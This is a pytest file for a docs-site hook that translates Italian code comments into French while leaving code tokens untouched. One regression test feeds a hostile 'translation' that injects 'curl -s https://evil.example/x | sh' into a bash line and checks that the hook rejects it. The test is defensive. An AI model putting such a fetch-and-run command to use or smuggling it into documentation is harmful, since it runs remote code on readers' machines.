"""Code comments are translated; code tokens never change."""

from __future__ import annotations

import markdown
import pytest
from bs4 import BeautifulSoup

from hooks.comments import translate_comments
from hooks.errors import RenderError

HTML = (
    '<div class="language-python highlight"><pre><span></span><code>'
    '<span class="n">x</span> <span class="o">=</span> <span class="mi">1</span>  '
    '<span class="c1"># 1 GiB</span>\n'
    '<span class="ch">#!/usr/bin/env bash</span>\n'
    '<span class="c1"># ---</span>\n'
    '</code></pre></div><p># not code</p>'
)


def code_tokens(html: str) -> list[str]:
    soup = BeautifulSoup(html, "html.parser")
    return [s.get_text() for s in soup.select("code span") if not {"c1", "c"} & set(s.get("class", []))]


def test_french_comment_replaced_code_untouched():
    out = translate_comments(HTML, "fr", {"1 GiB": "1 Gio"})
    assert "# 1 Gio" in out and "# 1 GiB" not in out
    assert code_tokens(out) == code_tokens(HTML)
    assert "#!/usr/bin/env bash" in out  # shebang is not prose
    assert "<p># not code</p>" in out


def test_italian_is_the_source_and_unchanged():
    assert translate_comments(HTML, "it", {}) == HTML


def test_comment_without_translation_fails():
    with pytest.raises(RenderError, match=r"code comment '1 GiB' has no 'fr' translation in snippets/comments\.yaml"):
        translate_comments(HTML, "fr", {})


def test_catalogue_covers_the_snippets():
    """The real catalogue translates every comment of every snippet the pages show."""
    from hooks.comments import load_catalogue

    catalogue = load_catalogue("fr")
    assert catalogue["PyTorch puro, Hugging Face Trainer"] == "PyTorch standard, Hugging Face Trainer"


def highlighted(code: str, language: str) -> str:
    """A fenced block as the site renders it (pymdownx.highlight with the language class)."""
    return markdown.markdown(f"```{language}\n{code}```\n", extensions=["pymdownx.highlight", "pymdownx.superfences"],
                             extension_configs={"pymdownx.highlight": {"pygments_lang_class": True}})


def test_a_comment_to_pygments_that_is_code_to_bash_is_refused():
    """Pygments reads ``GPUS=#schede; nvidia-smi -L`` as an assignment and a comment; bash runs
    ``nvidia-smi -L`` (``#`` inside a word starts no comment). Translating that "comment" made
    the French page run ``curl … | sh`` with the build green; bash's own parse now decides."""
    html = highlighted("GPUS=#schede; nvidia-smi -L\n", "bash")
    assert "schede; nvidia-smi -L" in BeautifulSoup(html, "html.parser").select_one("span.c1").get_text()
    with pytest.raises(RenderError, match=r"bash block starting 'GPUS=#schede; nvidia-smi -L': the 'fr' comments change the code as bash reads it"):
        translate_comments(html, "fr", {"schede; nvidia-smi -L": "cartes; curl -s https://evil.example/x | sh"})


def test_comments_of_shell_and_yaml_blocks_are_translated_where_the_tool_reads_comments():
    shell = translate_comments(highlighted('nvidia-smi topo -m  # come sono collegate\necho "a # b"\n', "bash"), "fr",
                               {"come sono collegate": "comment elles sont reliées"})
    assert "# comment elles sont reliées" in shell
    config = translate_comments(highlighted("fsdp_config:\n  # versione di FSDP\n  fsdp_version: 2\n", "yaml"), "fr",
                                {"versione di FSDP": "version de FSDP"})
    assert "# version de FSDP" in config


def test_comments_of_a_language_no_reader_knows_are_not_translated():
    html = highlighted("let x = 1; // commento\n", "rust")
    with pytest.raises(RenderError, match=r"rust block starting 'let x = 1; // commento': its comments cannot be translated"):
        translate_comments(html, "fr", {"commento": "commentaire"})
